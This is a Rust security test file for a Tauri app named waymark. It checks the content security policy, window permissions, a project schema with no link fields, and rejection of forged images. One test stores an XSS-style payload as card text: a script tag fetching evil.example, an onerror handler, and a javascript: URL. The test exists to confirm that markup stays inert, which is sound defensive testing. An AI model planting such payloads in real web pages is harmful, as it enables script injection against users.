//! The rules of docs/security.md that the core and the app's configuration keep.

mod common;

use std::path::Path;

use common::*;
use waymark::store::ProjectFile;
use waymark::*;

fn root_json(path: &str) -> serde_json::Value {
    let text = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(path)).unwrap();
    serde_json::from_str(&text).unwrap()
}

#[test]
fn the_csp_allows_only_the_apps_own_script_and_no_remote_loads() {
    let config = root_json("tauri.conf.json");
    let app = &config["app"];
    assert_eq!(app["withGlobalTauri"], false);
    assert_eq!(app["security"]["freezePrototype"], true);
    let csp = app["security"]["csp"].as_object().expect("a CSP is set");
    let expected = [
        ("default-src", "'self'"),
        ("script-src", "'self'"),
        ("style-src", "'self'"),
        ("img-src", "'self' data:"),
        ("font-src", "'self'"),
        ("connect-src", "ipc: http://ipc.localhost"),
        ("object-src", "'none'"),
        ("base-uri", "'none'"),
        ("form-action", "'none'"),
        ("frame-ancestors", "'none'"),
    ];
    for (directive, value) in expected {
        assert_eq!(csp[directive], value, "{directive}");
    }
    assert_eq!(csp.len(), expected.len(), "no other directive: {csp:?}");
    for value in csp.values() {
        let value = value.as_str().unwrap();
        assert!(!value.contains("unsafe"), "{value}");
        assert!(!value.contains("https:") && !value.contains('*'), "{value}");
    }
}

#[test]
fn the_main_window_has_only_the_listed_permissions() {
    let capability = root_json("src-tauri/capabilities/default.json");
    assert_eq!(capability["windows"], serde_json::json!(["main"]));
    let permissions: Vec<&str> = capability["permissions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().expect("plain permission names"))
        .collect();
    // The app's own commands, one permission each, and a few named plugin permissions; never a
    // plugin's default set, file system, shell, HTTP or URL opening.
    let plugin_allowed = [
        "dialog:allow-open",
        "dialog:allow-save",
        "core:event:allow-listen",
        "core:event:allow-unlisten",
        // The documents folder, where a new project is proposed; it names a folder, reads nothing.
        "core:path:allow-resolve-directory",
        // Presentation mode: full screen on and off; no other window control.
        "core:window:allow-set-fullscreen",
        // Help → About shows the app's version.
        "core:app:allow-version",
    ];
    for permission in &permissions {
        let own_command = permission.starts_with("allow-") && !permission.contains(':');
        assert!(
            own_command || plugin_allowed.contains(permission),
            "unexpected permission {permission}"
        );
    }
    assert!(permissions.contains(&"allow-open-project"));
    // Every own permission is a command the shell declares (build.rs), so none is left over from
    // a removed command; the workshop room is driven only through its own commands.
    let declared =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("src-tauri/build.rs"))
            .unwrap();
    for permission in permissions.iter().filter(|p| !p.contains(':')) {
        let command = permission.trim_start_matches("allow-").replace('-', "_");
        assert!(
            declared.contains(&format!("\"{command}\"")),
            "{permission} names no command"
        );
    }
    for room in [
        "allow-room-interfaces",
        "allow-open-room",
        "allow-room-status",
        "allow-set-room-phase",
        "allow-approve-submissions",
        "allow-approve-edited",
        "allow-merge-submissions",
        "allow-hide-submissions",
        "allow-kick-participant",
        "allow-close-room",
    ] {
        assert!(permissions.contains(&room), "{room} missing");
    }
    // Live co-editing: share, join, follow the server of the live file shown, say what is edited,
    // undo only the window's own edits.
    for live in [
        "allow-share-live",
        "allow-join-live",
        "allow-follow-live",
        "allow-live-editing",
        "allow-undo-own",
    ] {
        assert!(permissions.contains(&live), "{live} missing");
    }
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("src-tauri/capabilities");
    assert_eq!(
        std::fs::read_dir(dir).unwrap().count(),
        1,
        "one capability file"
    );
}

/// A project holds plain text, numbers, ids and image bytes: no field is a URL, markup or code.
#[test]
fn no_field_of_a_project_is_a_link_or_markup() {
    let schema = root_json("docs/project.schema.json");
    let mut names = Vec::new();
    fn walk(value: &serde_json::Value, names: &mut Vec<String>) {
        match value {
            serde_json::Value::Object(map) => {
                if let Some(serde_json::Value::Object(properties)) = map.get("properties") {
                    names.extend(properties.keys().cloned());
                }
                if let Some(format) = map.get("format").and_then(|f| f.as_str()) {
                    assert!(!format.contains("uri"), "a URI field: {map:?}");
                }
                map.values().for_each(|v| walk(v, names));
            }
            serde_json::Value::Array(items) => items.iter().for_each(|v| walk(v, names)),
            _ => {}
        }
    }
    walk(&schema, &mut names);
    assert!(names.len() > 50, "the schema was walked: {names:?}");
    for name in names {
        let lower = name.to_lowercase();
        for word in ["url", "uri", "href", "link", "html", "script", "src"] {
            assert!(!lower.contains(word), "field {name} looks like {word}");
        }
    }
}

/// Text that looks like markup is stored and exported as the same characters, never interpreted.
#[test]
fn markup_in_card_text_stays_text() {
    let dir = temp();
    let path = file_in(&dir, "hostile.waymark");
    let mut project = sample_with_image();
    let hostile = "<script>fetch('https://evil.example')</script><img src=x onerror=alert(1)> javascript:alert(2)";
    project.cards[0].text = hostile.into();
    ProjectFile::create(&path, &project)
        .unwrap()
        .close()
        .unwrap();
    let read = store::read(&path).unwrap();
    assert_eq!(read.cards[0].text, hostile);
    let json = interchange::json::to_string(&read);
    let back = interchange::json::from_str(&json, Path::new("hostile.json")).unwrap();
    assert_eq!(back.cards[0].text, hostile);
}

/// Image bytes must be what their hash names, and of a known type with a positive size.
#[test]
fn an_image_that_is_not_what_it_claims_is_refused() {
    let mut project = sample_with_image();
    project.images[0].data.push(0);
    let err = project.validate().unwrap_err();
    assert!(err.to_string().contains("do not match its hash"), "{err}");

    let mut project = sample_with_image();
    project.images[0].width = 0;
    let err = project.validate().unwrap_err();
    assert!(err.to_string().contains("positive"), "{err}");

    // An image claiming more pixels than an import allows is refused like a forged one.
    let mut project = sample_with_image();
    project.images[0].width = 20_000;
    project.images[0].height = 20_000;
    let err = project.validate().unwrap_err();
    assert!(err.to_string().contains("megapixels"), "{err}");

    // And a file carrying such an image is refused on open, not shown.
    let dir = temp();
    let path = file_in(&dir, "forged.waymark");
    ProjectFile::create(&path, &sample_with_image())
        .unwrap()
        .close()
        .unwrap();
    rusqlite::Connection::open(&path)
        .unwrap()
        .execute("UPDATE images SET data = CAST(data || x'00' AS BLOB)", [])
        .unwrap();
    let err = ProjectFile::open(&path).err().expect("refused");
    assert!(err.to_string().contains("do not match its hash"), "{err}");
}
